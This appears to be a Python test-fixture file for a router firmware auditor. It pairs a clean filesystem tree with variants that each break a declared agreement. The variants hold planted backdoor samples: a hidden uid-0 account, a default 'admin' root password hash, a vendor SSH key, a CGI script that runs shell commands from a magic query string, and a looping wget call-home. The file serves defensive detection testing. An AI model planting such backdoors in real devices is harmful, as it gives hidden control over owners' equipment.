"""Golden inputs: a small router tree that conforms to its agreement, and variants that
each break one clause (plus TR-1 where the break is an undeclared item: TR-1 is the
union of every declared-versus-found comparison)."""

from __future__ import annotations

import gzip
import random

#: sha512crypt of "admin" (openssl passwd -6 -salt Qm9vdHN0cmFw admin).
ADMIN_SHA512 = ("$6$Qm9vdHN0cmFw$rFrIQ5EwoyZp0Ac3mOF6miSnTTmkIfnRhigi03h4bMcRADpaoOE5b."
                "LdMe9Ec.BrRUt8EZ4LemZSRwMCwm7GD/")
VENDOR_KEY = ("ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBI"
              "o8cJ5jPKo4mE2mYR3Jx6aEtGg3bSxq3f7WzKEq2mH+q0f6Q9cHqAqBfF6Yb7l5v8JQm0yDq"
              "1hJ3yJ8q6vJ3dQ= vendor-support@vendor.example\n")

CLEAN_TREE: dict[str, bytes | str] = {
    "/etc/passwd": "root:x:0:0:root:/root:/bin/sh\n"
                   "daemon:x:1:1:daemon:/var:/bin/false\n"
                   "nobody:x:65534:65534:nobody:/var:/bin/false\n",
    "/etc/shadow": "root:!:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n"
                   "nobody:*:19000:0:99999:7:::\n",
    "/etc/group": "root:x:0:\nnogroup:x:65534:\n",
    "/etc/inittab": "::sysinit:/etc/init.d/rcS\n::shutdown:/bin/umount -a -r\n",
    "/etc/init.d/rcS": "#!/bin/sh\n"
                       "mount -t proc proc /proc\n"
                       "/usr/sbin/dropbear -s -g -p 22\n",
    "/usr/sbin/dropbear": "-> /bin/busybox",
    "/bin/busybox": b"\x00" * 64,
    "/bin/sh": "-> busybox",
    "/etc/config/system": "config system\n\toption hostname 'router'\n\n"
                          "config timeserver 'ntp'\n\tlist server 'time.vendor.example'\n",
    "/etc/banner": "Welcome.\n",
}

CLEAN_AGREEMENT = """\
schema_version = "1"
name = "clean router agreement"

[[accounts]]
name = "root"
uid = 0
authentication = "password"
purpose = "administration; the owner sets the password at first login"

[[services]]
name = "dropbear"
binary = "/usr/sbin/dropbear"
port = 22
protocol = "tcp"
purpose = "SSH administration with keys"

[[endpoints]]
host = "*.vendor.example"
purpose = "time and updates"
category = "ntp"

[[components]]
name = "busybox"
version = "1.36.1"

[support]
until = 2031-12-31

[vulnerability_disclosure]
contact = "security@vendor.example"

[legal]
statement = "The vendor is under no legal obligation to give any state access."
"""


def _truncated_gzip() -> bytes:
    data = gzip.compress(random.Random(6).randbytes(96 << 10), mtime=0)
    return data[: len(data) // 2]


#: Variant name -> files added to or replacing the clean tree; the test lists the clauses
#: each variant must fail.
VARIANTS: dict[str, dict[str, bytes | str]] = {
    "NB-1 extra uid-0 account": {
        "/etc/passwd": CLEAN_TREE["/etc/passwd"] + "toor:x:0:0:toor:/root:/bin/false\n",
    },
    "NB-2 default root password": {
        "/etc/shadow": f"root:{ADMIN_SHA512}:19000:0:99999:7:::\n"
                       "daemon:*:19000:0:99999:7:::\nnobody:*:19000:0:99999:7:::\n",
    },
    "NB-3 vendor authorized key": {"/etc/dropbear/authorized_keys": VENDOR_KEY},
    "NB-4 root password login over SSH": {
        "/etc/init.d/rcS": "#!/bin/sh\nmount -t proc proc /proc\n/usr/sbin/dropbear -p 22\n",
    },
    "NB-5 undeclared listener": {
        "/etc/init.d/rcS": CLEAN_TREE["/etc/init.d/rcS"] + "/usr/sbin/dnsmasq -p 53\n",
        "/usr/sbin/dnsmasq": "-> /bin/busybox",
    },
    "NB-6 backdoor switch in a CGI script": {
        "/www/cgi-bin/diag.cgi": "#!/bin/sh\n"
                                 "echo 'Content-Type: text/plain'\necho\n"
                                 'if echo "$QUERY_STRING" | grep -q VNDR_DBG_BACKDOOR_ENABLE; '
                                 "then\n"
                                 '  cmd=$(echo "$QUERY_STRING" | sed s/.*cmd=//)\n'
                                 '  sh -c "$cmd"\nfi\n',
    },
    "NS-1 undeclared call-home": {
        "/etc/init.d/rcS": CLEAN_TREE["/etc/init.d/rcS"] + "/usr/sbin/report.sh &\n",
        "/usr/sbin/report.sh": "#!/bin/sh\nwhile true; do\n"
                               "  wget -q -O /dev/null https://stats.collector.example/ping\n"
                               "  sleep 3600\ndone\n",
    },
    "TR-6 truncated container": {"/lib/firmware/blob.gz": _truncated_gzip()},
}
